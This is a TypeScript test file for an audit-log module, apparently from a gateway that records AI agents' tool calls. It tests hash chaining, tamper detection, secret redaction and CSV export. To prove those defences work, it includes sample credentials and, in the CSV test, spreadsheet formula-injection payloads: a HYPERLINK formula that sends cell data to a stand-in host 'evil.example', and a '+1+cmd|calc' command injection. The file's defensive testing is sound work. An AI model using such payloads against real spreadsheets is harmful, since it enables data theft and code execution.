// The audit hash chain and argument redaction: hashes are stable, edits show, secrets never pass.
import { createHash } from 'node:crypto';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { canonicalJson, chain, entryHash, GENESIS_HASH, verifyEntries } from '../../src/audit/chain.js';
import { auditKey } from '../../src/audit/keys.js';
import { auditArgs, MASK, maskSecrets } from '../../src/audit/redact.js';
import { type AuditRecordView, csvRow } from '../../src/audit/view.js';

const entry = (i: number) => ({
  time: `2026-01-01T00:00:0${i}.000Z`,
  kind: 'final' as const,
  requestKey: `k${i}`,
  body: { b: i, a: [1, { z: 2, y: null }] },
});

describe('entryHash', () => {
  it('is the sha256 of the previous hash and the canonical JSON of the entry', () => {
    const e = { ...entry(1), seq: 3 };
    const expected = createHash('sha256')
      .update('prev')
      .update('\n')
      .update(canonicalJson({ seq: 3, time: e.time, kind: e.kind, requestKey: e.requestKey, body: e.body }))
      .digest('hex');
    expect(entryHash('prev', e)).toBe(expected);
  });

  it('does not depend on key order', () => {
    const e = { ...entry(1), seq: 1 };
    expect(entryHash('p', e)).toBe(entryHash('p', { ...e, body: { a: e.body.a, b: e.body.b } }));
  });
});

/** The definition, written the obvious way: the optimised canonicalJson must always agree with it. */
function referenceCanonical(v: unknown): string {
  if (v === null || typeof v !== 'object') return JSON.stringify(v) ?? 'null';
  if (Array.isArray(v))
    return `[${v.map((x) => (x === undefined ? 'null' : referenceCanonical(x))).join(',')}]`;
  const o = v as Record<string, unknown>;
  const keys = Object.keys(o)
    .filter((k) => o[k] !== undefined)
    .sort();
  return `{${keys.map((k) => `${JSON.stringify(k)}:${referenceCanonical(o[k])}`).join(',')}}`;
}

describe('canonicalJson', () => {
  it('sorts keys at every level, also under arrays and in already sorted parents', () => {
    expect(canonicalJson({ b: 1, a: { d: [{ z: 1, y: 2 }], c: null } })).toBe(
      '{"a":{"c":null,"d":[{"y":2,"z":1}]},"b":1}',
    );
    expect(canonicalJson({ a: { z: 1, y: 2 } })).toBe('{"a":{"y":2,"z":1}}');
  });

  it('orders array-index keys as strings, not as JavaScript enumerates them', () => {
    expect(canonicalJson({ 9: 'a', 10: 'b', x: 'c' })).toBe('{"10":"b","9":"a","x":"c"}');
    expect(canonicalJson({ x: { 2: 0, 10: 1 } })).toBe('{"x":{"10":1,"2":0}}');
  });

  it('keeps a "__proto__" key from parsed JSON as data', () => {
    const parsed = JSON.parse('{"b":1,"__proto__":{"y":1,"x":2}}') as unknown;
    expect(canonicalJson(parsed)).toBe('{"__proto__":{"x":2,"y":1},"b":1}');
  });

  it('drops undefined properties and writes undefined array items as null', () => {
    expect(canonicalJson({ b: undefined, a: [undefined, 1] })).toBe('{"a":[null,1]}');
    expect(canonicalJson(undefined)).toBe('null');
  });

  it('agrees with the plain definition on any JSON value, and leaves its input unchanged', () => {
    fc.assert(
      fc.property(fc.jsonValue(), (v) => {
        const before = JSON.stringify(v);
        expect(canonicalJson(v)).toBe(referenceCanonical(v));
        expect(JSON.stringify(v)).toBe(before);
      }),
      { numRuns: 2000 },
    );
  });
});

describe('verifyEntries', () => {
  const entries = chain({ seq: 0, hash: GENESIS_HASH }, [entry(1), entry(2), entry(3)]);

  it('accepts an intact chain', () => {
    expect(verifyEntries(entries)).toEqual({ ok: true, count: 3, lastHash: entries[2]!.hash });
  });

  it('names an edited entry', () => {
    const edited = entries.map((e) => (e.seq === 2 ? { ...e, body: { ...e.body, b: 9 } } : e));
    expect(verifyEntries(edited)).toMatchObject({ ok: false, badSeq: 2, problem: 'content was edited' });
  });

  it('names the entry after a removed one', () => {
    expect(verifyEntries([entries[0]!, entries[2]!])).toMatchObject({ ok: false, badSeq: 3 });
  });
});

describe('redaction', () => {
  it('masks secret keys and credential-looking values at any depth', () => {
    const masked = maskSecrets({
      password: 'hunter2',
      nested: { api_key: 'abc', note: 'token is Bearer abcdefghijklmnop', url: 'postgres://bob:pw123@db/x' },
      list: ['ghp_0123456789abcdefghij0123456789abcdef', 'plain'],
    }) as Record<string, unknown>;
    expect(JSON.stringify(masked)).not.toMatch(/hunter2|abcdefghijklmnop|pw123|ghp_/);
    expect(masked.password).toBe(MASK);
    expect((masked.list as string[])[1]).toBe('plain');
  });

  it('keeps only names in keys mode, and a hash only when keyed (#17.13)', () => {
    const a = auditArgs({ text: 'secret value', amount: 5 }, 'keys');
    expect(a).toEqual({ mode: 'keys', keys: ['amount', 'text'] });
    const keyed = auditArgs({ text: 'secret value', amount: 5 }, 'keys', auditKey('k'.repeat(32)));
    expect(keyed).toEqual({
      mode: 'keys',
      keys: ['amount', 'text'],
      hash: expect.stringMatching(/^[0-9a-f]{64}$/),
    });
    expect(JSON.stringify(keyed)).not.toContain('secret value');
  });

  it('cuts long strings in redacted mode and keeps them in full mode, masking secrets in both', () => {
    const args = { body: 'x'.repeat(1000), token: 't0k3n' };
    const redacted = auditArgs(args, 'redacted')!.value as { body: string; token: string };
    expect(redacted.body.length).toBeLessThan(300);
    expect(redacted.token).toBe(MASK);
    const full = auditArgs(args, 'full')!.value as { body: string; token: string };
    expect(full.body).toHaveLength(1000);
    expect(full.token).toBe(MASK);
  });
});

describe('CSV export', () => {
  const record = (tool: string, reason: string | null) =>
    ({
      seq: 1,
      time: '2026-11-29T00:00:00.000Z',
      requestKey: 'k',
      requestId: 1,
      session: 's',
      grant: null,
      server: 'probe',
      method: 'tools/call',
      tool,
      decision: 'denied',
      rule: '(unknown tool)',
      reason,
      outcome: 'unknown',
      errorCode: -32602,
      latencyMs: 1.5,
      hash: 'h',
      args: null,
    }) as unknown as AuditRecordView;

  it('defuses cells an agent controls that a spreadsheet would run as a formula', () => {
    const row = csvRow(record('=HYPERLINK("http://evil.example/?"&A1,"open")', '+1+cmd|calc'));
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`);
    expect(row).toContain(",'+1+cmd|calc,");
    for (const start of ['-', '@', '\t']) expect(csvRow(record(`${start}x`, null))).toContain(`'${start}x`);
  });

  it('leaves numbers and ordinary text as they are', () => {
    const row = csvRow(record('echo', 'a reason'));
    expect(row).toContain(',echo,denied,');
    expect(row).toContain(',-32602,1.5,');
  });
});
